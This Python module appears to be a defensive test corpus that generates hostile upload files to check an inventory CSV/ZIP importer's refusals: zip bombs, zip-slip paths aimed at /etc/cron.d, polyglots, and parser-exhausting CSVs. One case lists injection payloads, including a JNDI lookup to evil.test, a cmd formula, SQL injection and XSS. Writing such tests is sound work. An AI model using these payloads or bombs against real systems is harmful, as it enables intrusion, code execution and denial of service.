"""Files of somebody who means harm, made by code: each up to 10 MB, but for one line of 2 GB that takes no room on disk.

`CASES` are put into `tests/unit/test_hostile_files.py`, `tests/database/test_hostile_batches.py`, and as a whole into
`make bench ARGS=hostile`.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from import_export.messages import Message
from tests.zip_builder import Entry, archive

MB = 1 << 20
MOST = 10 * MB
HEADER = b"SKU;Gudang;Stok PCS;Tanggal\n"
ROW = b"A1;W1;1.250;01/03/2026\n"
GOOD = HEADER + ROW * 3
DEFLATED = zipfile.ZIP_DEFLATED
UTF8 = 0x800
UNIX = 3

TABLE = {
    "table_name": "stocks",
    "display_name": "Stocks",
    "allowed_filename": "stocks",
    "columns": [
        {"name": "sku", "type": "str(50)", "is_mandatory": True},
        {"name": "gudang", "type": "str(50)"},
        {"name": "stok_pcs", "type": "int", "aliases": ["stok pcs"], "number_format": "1.234,56"},
        {"name": "nilai", "type": "decimal(18,2)", "number_format": "1.234,56", "role": "amount"},
        {"name": "tanggal", "type": "date", "date_formats": ["dd/mm/yyyy"]},
    ],
}


@dataclass(frozen=True, slots=True)
class Case:
    """A hostile file: its name, how it is made, and how it is refused."""

    name: str
    make: Callable[[], bytes]
    refused: frozenset[Message] = frozenset()
    """Any of these; empty: it is read, and its good rows are loaded."""
    good: int = 0
    """Rows that are good."""
    rows: bool = False
    """Whether it is the same few rows again and again, so that its start is as good as all of it but for the time."""

    def start(self, most: int) -> bytes:
        """Its rows up to so many bytes; all of a file that is something else."""
        content = self.make()
        return content[: content.rfind(b"\n", 0, most) + 1] if self.rows and len(content) > most else content


def filled(unit: bytes, head: bytes | None = None) -> bytes:
    """A file of the largest size that repeats some lines below its header."""
    head = GOOD if head is None else head
    return head + unit * ((MOST - len(head)) // len(unit))


CASES: list[Case] = []


def case(
    name: str, *refused: Message, good: int = 0, rows: bool = False
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Add a file to the corpus."""

    def add(make: Callable[[], bytes]) -> Callable[[], bytes]:
        CASES.append(Case(name, make, frozenset(refused), good, rows))
        return make

    return add


# ZIPs


@case("ratio.zip", Message.ZIP_RATIO)
def _ratio() -> bytes:
    return archive(Entry(b"stocks.csv", HEADER + b"0" * (20 * MB), DEFLATED))


@case("many_small.zip", Message.ZIP_RATIO)
def _many_small() -> bytes:
    """Each member is small enough not to matter; together they are a gigabyte."""
    content = GOOD + b"0" * (MB - 200)
    squeezed = Entry(b"stocks.csv", content, DEFLATED).packed()
    names = [b"%03d/stocks.csv" % number for number in range(999)]
    return archive(*(Packed(name, content, DEFLATED, squeezed=squeezed) for name in names))


@dataclass
class Packed(Entry):
    """A member whose packed bytes are known already."""

    squeezed: bytes = b""

    def packed(self) -> bytes:
        return self.squeezed


@case("understated.zip", Message.ZIP_NO_DATA_FILE)
def _understated() -> bytes:
    return archive(Entry(b"stocks.csv", b"0" * (20 * MB), DEFLATED, size=1000))


@case("overstated.zip", Message.ZIP_UNSAFE)
def _overstated() -> bytes:
    return archive(Entry(b"stocks.csv", b"0" * (20 * MB), DEFLATED, packed_size=10 * MB))


@case("claims_petabytes.zip", Message.ZIP_RATIO, Message.ZIP_TOO_LARGE, Message.ZIP_UNSAFE)
def _zip64() -> bytes:
    """Sizes that only ZIP64's extra field can tell."""
    return _with_zip64(size=1 << 50, packed=len(GOOD))


@case("zip64_packed_beyond_the_end.zip", Message.ZIP_UNSAFE, Message.ZIP_NO_DATA_FILE)
def _zip64_packed() -> bytes:
    return _with_zip64(size=1 << 40, packed=1 << 40)


def _with_zip64(size: int, packed: int) -> bytes:
    octets = io.BytesIO()
    with zipfile.ZipFile(octets, "w") as made, made.open("stocks.csv", "w", force_zip64=True) as member:
        member.write(GOOD)
    content = bytearray(octets.getvalue())
    at = content.index(b"PK\x01\x02")
    name_length, extra_length = struct.unpack_from("<2H", content, at + 28)
    struct.pack_into("<2L", content, at + 20, 0xFFFFFFFF, 0xFFFFFFFF)
    struct.pack_into("<H", content, at + 30, extra_length + 20)
    extra = struct.pack("<2H2Q", 1, 16, size, packed)
    content[at + 46 + name_length : at + 46 + name_length] = extra
    end = content.index(b"PK\x05\x06")
    (directory,) = struct.unpack_from("<L", content, end + 12)
    struct.pack_into("<L", content, end + 12, directory + len(extra))
    return bytes(content)


@case("shared_bytes.zip", Message.ZIP_UNSAFE)
def _overlapping() -> bytes:
    """Many entries of the directory, one kernel of bytes (D. Fifield's bomb)."""
    content = b"0" * MB
    squeezed = Entry(b"stocks.csv", content, DEFLATED).packed()
    kernel = Packed(b"stocks.csv", content, DEFLATED, squeezed=squeezed)
    others = (Packed(b"stocks.csv", content, DEFLATED, offset=0, squeezed=squeezed) for _ in range(100))
    return archive(kernel, *others, members=kernel.local())


@case("nested.zip", Message.ZIP_UNSAFE)
def _nested() -> bytes:
    inner = archive(Entry(b"stocks.csv", b"0" * MB, DEFLATED))
    for _ in range(5):
        inner = archive(*(Entry(b"%d.zip" % number, inner, DEFLATED) for number in range(10)))
    return archive(Entry(b"stocks.csv", GOOD), Entry(b"more.zip", inner))


@case("quine.zip", Message.ZIP_NO_DATA_FILE, Message.ZIP_UNSAFE)
def _itself() -> bytes:
    return archive(Entry(b"r/r.zip", archive(Entry(b"r/r.zip"))))


@case("too_many.zip", Message.ZIP_TOO_LARGE)
def _too_many() -> bytes:
    return archive(*(Entry(b"%05d.csv" % number, b"") for number in range(60_000)))


@case("claims_more_entries.zip", Message.ZIP_NO_DATA_FILE, good=3)
def _claims_more() -> bytes:
    content = bytearray(archive(Entry(b"stocks.csv", GOOD)))
    struct.pack_into("<2H", content, content.index(b"PK\x05\x06") + 8, 65535, 65535)
    return bytes(content)


@case("encrypted.zip", Message.ZIP_ENCRYPTED)
def _encrypted() -> bytes:
    return archive(Entry(b"stocks.csv", GOOD, flags=1))


def _slip(name: str, member: bytes, **more: int) -> None:
    case(name, Message.ZIP_UNSAFE)(lambda: archive(Entry(b"good.csv", GOOD), Entry(member, GOOD, **more)))


for _name, _member in {
    "slip_up": b"../../../../../../etc/cron.d/stocks.csv",
    "slip_hidden": b"a/b/../../../stocks.csv",
    "slip_absolute": b"/etc/cron.d/stocks.csv",
    "slip_drive": b"C:\\Windows\\stocks.csv",
    "slip_drive_relative": b"c:stocks.csv",
    "slip_backslash": b"a\\..\\..\\stocks.csv",
    "slip_share": b"\\\\host\\share\\stocks.csv",
    "slip_nul": b"stocks.csv\0.exe.csv",
    "name_ansi": b"\x1b]0;pwned\x07\x1b[2Jstocks.csv",
    "name_newline": b"stocks\nFAKE LOG LINE.csv",
    "name_long": b"x" * 60_000 + b".csv",
}.items():
    _slip(f"{_name}.zip", _member)
_slip("name_bidi.zip", "stocks\u202evsc.exe.csv".encode(), flags=UTF8)
_slip("link.zip", b"stocks.csv", attributes=0o120777 << 16, made_by=UNIX)
_slip("device.zip", b"stocks.csv", attributes=0o020666 << 16, made_by=UNIX)
_slip("fifo.zip", b"stocks.csv", attributes=0o010644 << 16, made_by=UNIX)


# One thing that is two


@case("zip_behind_a_pdf.zip", good=3)
def _pdf_and_zip() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + archive(Entry(b"stocks.csv", GOOD))


@case("stocks_pdf_and_zip.csv", Message.NOT_TEXT)
def _pdf_as_csv() -> bytes:
    return _pdf_and_zip()


@case("not_a_zip.zip", Message.ZIP_NO_DATA_FILE)
def _csv_as_zip() -> bytes:
    return GOOD * 1000


@case("stocks_zip.csv", Message.NOT_TEXT)
def _zip_as_csv() -> bytes:
    return archive(Entry(b"stocks.csv", GOOD))


@case("stocks_gzip.csv", Message.NOT_TEXT)
def _gzip_as_csv() -> bytes:
    return gzip.compress(GOOD * 100_000)


@case("stocks_html.csv", Message.NOT_TEXT, Message.NO_HEADER, Message.MANDATORY_MISSING, Message.NO_DATA_ROWS)
def _html_as_csv() -> bytes:
    return b"<!doctype html><script>alert(1)</script><table>" + b"<tr><td>A1</td><td>1</td></tr>\n" * 100_000


@case("stocks_csv_then_zip.csv", Message.NOT_TEXT)
def _csv_then_zip() -> bytes:
    return GOOD + archive(Entry(b"stocks.csv", GOOD))


for _name, _magic in {
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "elf": b"\x7fELF\x02\x01\x01\0",
    "xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "sqlite": b"SQLite format 3\0",
    "zstd": b"\x28\xb5\x2f\xfd",
    "noise": bytes(range(256)) * 4,
}.items():
    case(f"stocks_{_name}.csv", Message.NOT_TEXT, Message.NO_HEADER, Message.EMPTY_FILE)(
        lambda magic=_magic: magic + bytes(range(256)) * 10_000  # type: ignore[misc]
    )


# Shapes that parsers choke on

NO_TABLE = (
    Message.NO_HEADER,
    Message.NO_DATA_ROWS,
    Message.EMPTY_FILE,
    Message.MANDATORY_MISSING,
    Message.NOT_TEXT,
)


@case("stocks_one_line.csv", *NO_TABLE)
def _one_line() -> bytes:
    return b"x" * MOST


@case("stocks_one_cell.csv")
def _one_cell() -> bytes:
    return HEADER + b'A1;W1;1;"' + b"x" * (MOST - 100) + b'"\n'


@case("stocks_long_cell_among_good.csv", good=6)
def _long_cell() -> bytes:
    return GOOD + b"A1;" + b"w" * (5 * MB) + b";1;01/03/2026\n" + ROW * 3


@case("stocks_open_quote.csv", rows=True)
def _open_quote() -> bytes:
    return filled(ROW, HEADER + b'A1;"W1;1;01/03/2026\n')


@case("stocks_quotes.csv", *NO_TABLE)
def _quotes() -> bytes:
    return b'"' * MOST


@case("stocks_quotes_in_rows.csv", Message.SAMPLE_INVALID, rows=True)
def _quotes_in_rows() -> bytes:
    return filled(b'";";";";";";""";\n', HEADER)


@case("stocks_quotes_below.csv")
def _quotes_below() -> bytes:
    return HEADER + b'";' * MB


@case("stocks_ways_without_end.csv", rows=True)
def _ways_without_end() -> bytes:
    """Each line has thousands of ways of reading its quotes, none of which gives four cells."""
    return filled(b'"";' * 150 + b'"x\n', HEADER)


@case("stocks_joins_without_end.csv", rows=True)
def _joins_without_end() -> bytes:
    """Each line opens a quote that nothing closes for 200 lines."""
    return filled(b'"' + b'""x' * 1500 + b"\n", HEADER)


@case("stocks_patterns_without_end.csv", rows=True)
def _patterns_without_end() -> bytes:
    """No line has its quotes and delimiters where another one has them."""
    signs = ('"', '"A', 'A"', ";", ';"', '";', '"";', "A")

    def line(number: int) -> str:
        return "".join(signs[number >> 3 * place & 7] for place in range(9))

    return (
        HEADER + "\n".join(line(number * 7919) for number in range(MOST // 16)).encode()[: MOST - 100] + b"\n"
    )


@case("stocks_stray_quotes.csv", rows=True)
def _stray_quotes() -> bytes:
    return filled(b'A"1;W"1;"1;01/0"3/2026\n' + b'"A1;W1;1;01/03/2026\n')


@case("stocks_million_columns.csv", *NO_TABLE)
def _million_columns() -> bytes:
    return b";".join(b"c%d" % number for number in range(MB)) + b"\n" + b";" * MB + b"\n"


@case("stocks_million_cells_in_a_row.csv")
def _million_cells() -> bytes:
    return HEADER + b"A1;W1;1;01/03/2026" + b";" * (9 * MB) + b"\n" + ROW


@case("stocks_equal_headers.csv", *NO_TABLE, Message.DUPLICATE_HEADER)
def _equal_headers() -> bytes:
    return b";".join([b"sku"] * 40_000) + b"\n" + (b"1;" * 39_999 + b"1\n") * 3


@case("stocks_equal_headers_5000.csv", *NO_TABLE, Message.DUPLICATE_HEADER)
def _equal_headers_most() -> bytes:
    return b";".join([b"sku"] * 5_000) + b"\n" + (b"1;" * 4_999 + b"1\n") * 900


@case("stocks_delimiters.csv", *NO_TABLE)
def _delimiters() -> bytes:
    return (b";" * 200 + b"\n") * (MOST // 201)


@case("stocks_blank_lines.csv", *NO_TABLE)
def _blank_lines() -> bytes:
    return b"\n" * MOST


@case("stocks_blank_lines_below.csv", *NO_TABLE)
def _blank_below() -> bytes:
    return HEADER + b"\r" * (MOST - 100)


@case("stocks_short_rows.csv", rows=True)
def _short_rows() -> bytes:
    return filled(b"x\n", HEADER)


@case("stocks_repeated_headers.csv")
def _repeated_headers() -> bytes:
    return HEADER * (MOST // len(HEADER))


@case("stocks_nul.csv", *NO_TABLE)
def _nul() -> bytes:
    return b"\0" * MOST


@case("stocks_nul_between.csv")
def _nul_between() -> bytes:
    return HEADER + b"A\0" * (4 * MB)


@case("stocks_utf16_liar.csv", *NO_TABLE)
def _utf16() -> bytes:
    return b"\xff\xfe" + b"\xd8\x00" * (4 * MB)


@case("stocks_combining.csv", *NO_TABLE)
def _combining() -> bytes:
    return b"e" + "\u0301".encode() * (4 * MB)


# Values that readers of numbers and dates choke on


def _values(name: str, *values: bytes, column: int = 2) -> None:
    def make() -> bytes:
        header, rows = HEADER.replace(b"Gudang", b"Nilai") if column == 1 else HEADER, bytearray()
        for value in values:
            cells = [b"A1", b"1", b"1", b"01/03/2026"]
            cells[column] = value
            rows += b";".join(cells) + b"\n"
        return filled(bytes(rows), header)

    case(f"stocks_{name}.csv", Message.SAMPLE_INVALID, rows=True)(make)


_values("digits", b"9" * 100_000, b"-" * 1000 + b"1", b"1." * 20_000, b"1" + b",000" * 20_000)
_values("exponents", b"1e999999999", b"1E-999999999", b"9e9999", column=1)
_values(
    "not_numbers",
    b"NaN",
    b"Infinity",
    b"0x10",
    b"1_000",
    "\u0661\u0662".encode(),
    b"(((((1)))))" * 10,
    column=1,
)
_values("currencies", b"Rp " * 10_000 + b"1", b"$" * 30_000, b"(" * 30_000, b" " * 30_000 + b"1", column=1)
_values(
    "dates",
    b"0" * 50_000,
    b"99/99/9999",
    b"31/02/2026",
    b"1/" * 30_000,
    b"-1/-1/-1",
    b"01/03/2026" * 5_000,
    column=3,
)


# Rows without end, each of which has something wrong with it

AMOUNTS = HEADER.replace(b";Tanggal", b";Nilai;Tanggal") + b"A1;W1;1;1,00;01/03/2026\n" * 2


def _rows(name: str, unit: bytes, head: bytes | None = None, *, good: int = 0) -> None:
    case(f"stocks_{name}.csv", good=good, rows=True)(lambda: filled(unit, head))


_rows("rows_of_two", b"xx\n", good=3)
_rows("short_lines_end_in_cr", b"x\r", HEADER.replace(b"\n", b"\r"))
_rows("short_rows_and_a_quoted_line_end", b"x\n" * 100_000 + b'A;"b\nc";1;01/03/2026\n')
_rows("long_rows", b"1;2;3;4;5\n", good=3)
_rows("good_and_short_rows", b"x\nA;2;3;01/03/2026\n")
_rows(
    "short_rows_where_lines_end_with_a_delimiter",
    b"x;\n",
    HEADER.replace(b"\n", b";\n") + ROW.replace(b"\n", b";\n") * 99,
)
_rows("bad_cells", b";x;x;x\n", good=3)
_rows("words_in_all_cells", b"ab;cd;ef;gh\n", good=3)
_rows("words_between_good_rows", b"ab;cd\nA;2;3;01/03/2026\n")
_rows("totals", b"TOTAL;;;;\n", AMOUNTS)
_rows("short_totals", b"TOTAL;1\n", AMOUNTS, good=2)
_rows("rows_of_nothing", b";;;\n", good=3)
_rows("blank_lines_of_wide_blanks", "\u2003\n".encode(), good=3)
_rows("first_name_again", b"SKU;2;3;01/03/2026\n")
_rows("spoiled_rows", b"a\xff;1;1;01/03/2026\n" + "\u00e9;1;1;01/03/2026\n".encode())
_rows("spoiled_short_rows", "\u00e9;1\n".encode() * 20 + b"x\xff\n" * 10, good=3)
_rows("quote_behind_blanks", b" " * 5000 + b'"x\n', good=3)
_rows("blanks_behind_quotes", b'"' + (b'"' + b" " * 2000) * 5 + b"x\n", good=3)
_rows("quotes_at_the_end", b'a"\n', good=3)
_rows("open_quotes_in_short_rows", b'"a\n', good=3)
_rows("open_quotes_in_rows", b'"A;2;3;01/03/2026\n')
_rows("line_ends_in_quotes", b'"\n";2;3;01/03/2026\n', good=3)


def _numbered(name: str, row: str) -> None:
    """Rows of which each is another one, so that nothing found out about one is of use for the next."""

    def make() -> bytes:
        rows = "".join(row.format(number) for number in range(1_000_000, 1_000_000 + MOST // len(row)))
        return GOOD + rows[: rows.rfind("\n", 0, MOST - len(GOOD)) + 1].encode()

    case(f"stocks_{name}.csv", rows=True)(make)


_numbered("other_odd_numbers", "x;1;{0}-;01/03/2026\n")
_numbered("other_wrong_values", "x;1;x{0};x{0}\n")
_numbered("other_days", "x;1;1;{0}\n")


@case("stocks_cells_of_an_attacker.csv", good=13)
def _attackers_cells() -> bytes:
    cells = [
        '=HYPERLINK("http://evil.test","x")'.replace('"', '""'),
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "'; DROP TABLE stocks; --",
        "a' OR '1'='1",
        "\\\\N",
        "../../../etc/passwd",
        "${jndi:ldap://evil.test/a}",
        "{{ 7 * 7 }}",
        "%s%n%x",
    ]
    return HEADER + "".join(f'"{cell}";W1;1;01/03/2026\n' for cell in cells).encode()


def sparse_line(path: Path, size: int = 2 << 30) -> None:
    """One line of 2 GB behind a good start, of which the file system keeps next to nothing."""
    with path.open("wb") as file:
        file.write(GOOD + b"A1;")
        file.truncate(size)


def sparse_header(path: Path, size: int = 2 << 30) -> None:
    """2 GB without a line end."""
    with path.open("wb") as file:
        file.write(b"x;")
        file.truncate(size)
        file.seek(size - 1)
        file.write(b"x")
